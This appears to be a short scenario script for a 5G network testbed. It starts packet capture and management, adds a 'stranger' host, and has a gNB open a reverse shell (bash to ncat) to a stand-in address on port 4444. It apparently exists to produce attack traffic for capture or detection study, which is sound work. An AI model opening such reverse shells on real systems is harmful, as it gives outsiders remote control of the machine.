# SPDX-License-Identifier: Apache-2.0
# A gNB opens a plain reverse shell to 203.0.113.50:4444 (bash to ncat); an operator looks around.
start_management
add_host stranger
start_capture
start_gnb
gnb_round 1
reverse_shell gnb-0117 4444
gnb_round 2
